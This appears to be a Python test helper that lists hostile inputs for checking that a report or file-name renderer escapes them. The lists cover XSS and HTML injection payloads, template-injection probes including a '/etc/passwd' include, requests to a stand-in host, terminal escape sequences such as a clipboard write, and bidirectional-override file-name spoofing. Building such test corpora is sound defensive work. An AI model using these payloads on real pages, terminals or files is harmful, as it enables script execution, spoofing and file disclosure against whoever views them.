"""What an attacker would write into a set, a report or a file name, so that whoever looks at it is attacked."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from typing import Any

# Each tries to run something in a browser, or to make it ask for something. The forms follow OWASP's filter evasion
# cheat sheet and the HTML specification's parsing rules: https://cheatsheetseries.owasp.org/
MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://192.0.2.1/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</code></bdi></td></table><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>@import 'http://192.0.2.1/x.css';</style>",
    "<style>*{background:url(http://192.0.2.1/x)}</style>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`/onerror=alert(1)>",
    "<img src=http://192.0.2.1/x>",
    "<image href=http://192.0.2.1/x>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onload=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=http://192.0.2.1/x#y></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=http://192.0.2.1/x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=http://192.0.2.1/ ping=http://192.0.2.1/>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=http://192.0.2.1/>",
    "<link rel=stylesheet href=http://192.0.2.1/x.css>",
    "<link rel=prefetch href=http://192.0.2.1/x>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp></xmp><script>alert(1)</script>",
    "<plaintext>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\x00script>alert(1)</script>",
    "<img src=x\x00onerror=alert(1)>",
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "%(count)d %s {0} {about} {path}",
    "javascript:alert(1)",
    "![x](http://192.0.2.1/x)",
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: http://192.0.2.1/ 'x'",
    "http://192.0.2.1/ www.bad.example.org a@example.org",
)

# Each tries to give orders to a terminal, to hide or to reorder text.
STEERING = (
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://192.0.2.1/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybA==\x07",
    "\x1b[2J\x1b[H",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x9b31m\x9d0;x\x9c",
    "a\x08\x08b\x7f",
    "over\rwritten",
    "line\nbreak\x0b\x0c\x85",
    "line\u2028and\u2029paragraph",
    "evil\u202egpj.exe",
    "\u2066a\u2067b\u2068c\u2069",
    "\u061c\u200e\u200f",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060",
    "soft\xadhyphen",
    "tag\U000e0041\U000e0042",
    "\ud800 half \udfff",
    "\ue000private\U0010fffd",
    "nul\x00",
    "[bold red]markup[/bold red] [link=http://192.0.2.1]x[/link] :skull: [/]",
)

EVERYTHING = (*MARKUP, *STEERING)


def unprintable(text: str) -> set[str]:
    """Return the characters of a text that may steer a terminal or reorder a line; a line break is none."""
    return {char for char in text if unicodedata.category(char) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}} - {"\n"}


def places(document: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Give the way to every text in a JSON document."""
    if isinstance(document, str):
        yield path
    elif isinstance(document, dict | list):
        for key, value in document.items() if isinstance(document, dict) else enumerate(document):
            yield from places(value, (*path, key))


def put(document: Any, path: tuple[Any, ...], value: object) -> None:
    """Put a value at a place of a JSON document."""
    for key in path[:-1]:
        document = document[key]
    document[path[-1]] = value
